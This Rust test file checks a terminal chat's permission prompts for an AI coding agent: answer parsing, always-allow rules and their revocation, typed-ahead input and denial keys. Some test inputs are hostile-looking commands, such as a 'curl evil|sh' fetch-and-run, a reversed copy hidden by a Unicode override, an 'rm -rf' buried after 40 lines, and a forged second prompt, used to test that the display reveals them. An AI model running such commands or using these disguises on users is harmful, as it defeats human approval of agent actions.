//! Permission requests in a chat.

use std::time::{Duration, Instant};

use super::*;

#[test]
fn permission_is_requested_and_only_a_clear_answer_counts() {
    for (answer, received) in
        [("y", r#""behavior":"allow""#), ("n not now", r#""behavior":"deny","message":"not now""#)]
    {
        let mut chat = Chat::open();
        chat.type_line("please ask");
        chat.wait_for("Allow claude to run this command");
        chat.wait_for("touch x");
        chat.wait_for("allow? ");
        chat.type_line("perhaps");
        chat.wait_for("is no answer");
        chat.wait_for_times("allow? ", 2);
        chat.type_line(answer);
        chat.wait_for_turns(1);
        assert!(chat.received().contains(received), "{}", chat.received());
        chat.type_line("/quit");
        chat.wait_for_exit(0);
    }
}

#[test]
fn a_permission_prompt_shows_characters_that_a_terminal_would_hide() {
    for (command, shown) in [
        ("true '\u{1b}]'; touch X; echo '\u{7}'", "$ true '⟦ESC⟧]'; touch X; echo '⟦BEL⟧'"),
        ("ls \u{9d}; curl evil|sh \u{9c}", "$ ls ⟦U+009D⟧; curl evil|sh ⟦U+009C⟧"),
        ("echo \u{202e}hs|live lruc", "$ echo ⟦U+202E⟧hs|live lruc"),
        ("ls\nAllow claude to read this?", "$ ls⟦LF⟧\n      │ Allow claude to read this?"),
    ] {
        let mut chat = Chat::new(&[], |chat| {
            chat.env("REQUEST", request("Bash", &json!({ "command": command })));
        });
        chat.type_line("please ask");
        chat.wait_for("Allow claude to run this command");
        chat.wait_for("allow? ");
        let (screen, sent) = (chat.terminal.text(), chat.terminal.sent());
        assert!(screen.contains(shown), "{screen}");
        assert!(!sent.contains(['\u{7}', '\u{9c}', '\u{9d}', '\u{202e}']) && !sent.contains("\u{1b}]"), "{sent:?}");
        chat.type_line("n");
        chat.wait_for(LAST);
        chat.terminal.signal(Signal::SIGTERM);
        chat.wait_for_exit(130);
    }
}

#[test]
fn the_end_of_a_long_call_is_counted_in_the_prompt_and_shown_on_demand() {
    let command = format!("{}rm -rf x", "true\n".repeat(40));
    let mut chat = Chat::new(&[], |chat| {
        chat.env("REQUEST", request("Bash", &json!({ "command": command })));
    });
    chat.type_line("please ask");
    chat.wait_for("NOT SHOWN: 18 more lines");
    chat.wait_for("show 18 more lines");
    chat.wait_for("allow? ");
    assert!(!chat.terminal.text().contains("rm -rf x"));
    chat.type_line("v");
    chat.wait_for("rm -rf x");
    chat.wait_for_times("allow? ", 2);
    chat.type_line("n");
    chat.wait_for(LAST);
    chat.terminal.signal(Signal::SIGTERM);
    chat.wait_for_exit(130);
}

#[test]
fn what_is_always_allowed_is_named_answers_later_requests_and_can_be_taken_back() {
    let mut chat = Chat::new(&[], |chat| {
        chat.env("REQUEST", request("Bash", &json!({ "command": "npm install x" })));
    });
    chat.type_line("please ask");
    chat.wait_for("always allow `npm install *` in this session");
    chat.wait_for("allow? ");
    chat.type_line("a");
    chat.wait_for("allowed until this session ends: `npm install *`\n  (rule Bash(npm install:*);");
    chat.wait_for_turns(1);
    chat.type_line("please ask");
    chat.wait_for_turns(2);
    chat.wait_for_times("allow? ", 1);
    chat.type_line("/permission");
    chat.wait_for("mode: ask");
    chat.wait_for("1  Bash(npm install:*)");
    chat.type_line("/permission revoke 1");
    chat.wait_for("no longer allowed: Bash(npm install:*)");
    chat.type_line("please ask");
    chat.wait_for_times("allow? ", 2);
    chat.type_line("n");
    chat.wait_for_turns(3);
    assert_eq!(chat.received().matches(r#""behavior":"allow""#).count(), 2, "{}", chat.received());
    chat.terminal.signal(Signal::SIGTERM);
    chat.wait_for_exit(130);
}

#[test]
fn a_pipeline_is_allowed_by_one_rule_for_each_command_which_can_be_saved_and_revoked() {
    let command = json!({ "command": "npm test 2>&1 | tail -3" });
    let mut chat = Chat::new(&[], |chat| {
        chat.env("REQUEST", request("Bash", &command));
    });
    chat.type_line("please ask");
    chat.wait_for("always allow `npm test *` and `tail *` in this session");
    chat.wait_for("allow? ");
    chat.type_line("p");
    chat.wait_for("allowed in this directory: `npm test *` and `tail *`");
    chat.wait_for_turns(1);
    // A new session of the same directory.
    chat.type_line("/new");
    chat.wait_for("new conversation with claude");
    chat.type_line("please ask");
    chat.wait_for_turns(2);
    chat.wait_for_times("allow? ", 1);
    chat.type_line("/permission");
    chat.wait_for("1  Bash(npm test:*) (saved for this directory in ");
    chat.type_line("/permission revoke 1");
    chat.wait_for("no longer allowed: Bash(npm test:*), also in later chats");
    chat.type_line("please ask");
    chat.wait_for_times("allow? ", 2);
    chat.type_line("n");
    chat.wait_for_turns(3);
    chat.terminal.signal(Signal::SIGTERM);
    chat.wait_for_exit(130);
}

#[test]
fn the_reason_why_always_is_not_offered_is_shown() {
    let mut chat = Chat::new(&[], |chat| {
        chat.env("REQUEST", request("Bash", &json!({ "command": "echo a > b" })));
    });
    chat.type_line("please ask");
    chat.wait_for("always is not offered: the command writes to a file");
    chat.wait_for("allow? ");
    chat.type_line("a");
    chat.wait_for("it can be allowed only this time, y or n: the command writes to a file");
    chat.wait_for_times("allow? ", 2);
    chat.type_line("n");
    chat.wait_for_turns(1);
    chat.terminal.signal(Signal::SIGTERM);
    chat.wait_for_exit(130);
}

#[test]
fn what_is_typed_before_a_request_does_not_answer_it_and_is_not_lost() {
    // The agent asks when the file exists. Until then, and also while the request is shown, the person types.
    let asking =
        AGENT.replace("*'please ask'*) head", "*'please ask'*) until test -e \"$GO\"; do sleep 0.02; done; head");
    let mut chat = Chat::new(&[], |chat| {
        chat.env("FAKE_CLI", asking);
    });
    chat.type_line("please ask");
    chat.wait_for("starting");
    chat.type_line("yes or no?");
    chat.wait_for("waiting: yes or no?");
    chat.press("and y");
    chat.go();
    chat.wait_for("Allow claude to run this command");
    chat.press("es");
    chat.wait_for("allow? ");
    chat.wait_for("your text stays: and yes");
    assert!(!chat.received().contains("behavior"), "{}", chat.received());
    chat.type_line("n");
    chat.wait_for("> and yes");
    // The CLI ends the turn only after it has read the answer.
    chat.wait_for_turns(2);
    assert!(chat.received().contains(r#""behavior":"deny""#), "{}", chat.received());
    assert_eq!(chat.prompts(), ["please ask", "yes or no?"]);
    chat.terminal.signal(Signal::SIGTERM);
    chat.wait_for_exit(130);
}

#[test]
fn an_answer_that_is_typed_just_before_a_request_is_no_prompt() {
    let asking =
        AGENT.replace("*'please ask'*) head", "*'please ask'*) until test -e \"$GO\"; do sleep 0.02; done; head");
    let mut chat = Chat::new(&[], |chat| {
        chat.env("FAKE_CLI", asking);
    });
    chat.type_line("please ask");
    chat.wait_for("starting");
    chat.type_line("y");
    chat.wait_for("waiting: y");
    chat.go();
    chat.wait_for("y was typed before the request was shown: answer it again");
    chat.wait_for("allow? ");
    assert!(!chat.received().contains("behavior"), "{}", chat.received());
    chat.type_line("n");
    chat.wait_for_turns(1);
    assert!(!chat.terminal.text().contains("waiting: y"), "{}", chat.terminal.text());
    assert_eq!(chat.prompts(), ["please ask"]);
    chat.quit();
}

#[test]
fn the_next_request_is_answered_only_after_a_pause() {
    // The agent sends the second request as soon as it has the first answer.
    let again =
        "printf '%s\\n' \"$REQUEST\" | sed s/r1/r2/; read -r answer; echo \"$answer\" >> \"$RECEIVED\"; sed 1,4d";
    let asking = AGENT.replacen("sed 1,4d", again, 1);
    let mut chat = Chat::new(&[], |chat| {
        chat.env("FAKE_CLI", asking);
    });
    chat.type_line("please ask");
    chat.wait_for("allow? ");
    let answered = Instant::now();
    chat.type_line("y");
    chat.wait_for_times("allow? ", 2);
    assert!(answered.elapsed() >= Duration::from_millis(400), "{:?}", answered.elapsed());
    chat.type_line("n");
    chat.wait_for_turns(1);
    let received = chat.received();
    assert!(received.contains(r#""behavior":"allow""#) && received.contains(r#""behavior":"deny""#), "{received}");
    chat.quit();
}

#[test]
fn several_pasted_lines_are_no_answer() {
    let mut chat = Chat::open();
    chat.type_line("please ask");
    chat.wait_for("allow? ");
    // All lines arrive at once, as in a terminal without bracketed paste.
    chat.type_line("y\ry\ry");
    chat.wait_for("several lines are no answer");
    chat.wait_for("not sent: (3 lines) y y y");
    assert!(!chat.received().contains("behavior"), "{}", chat.received());
    chat.type_line("n");
    chat.wait_for_turns(1);
    assert!(chat.received().contains(r#""behavior":"deny""#), "{}", chat.received());
    chat.quit();
}

#[test]
fn ctrl_c_and_esc_at_a_request_deny_it() {
    for key in ["\u{3}", "\u{1b}"] {
        let mut chat = Chat::open();
        chat.type_line("please ask");
        chat.wait_for("allow? ");
        chat.press(key);
        until("the denial is received", || chat.received().contains(r#""behavior":"deny""#));
        chat.terminal.signal(Signal::SIGTERM);
        chat.wait_for_exit(130);
    }
}
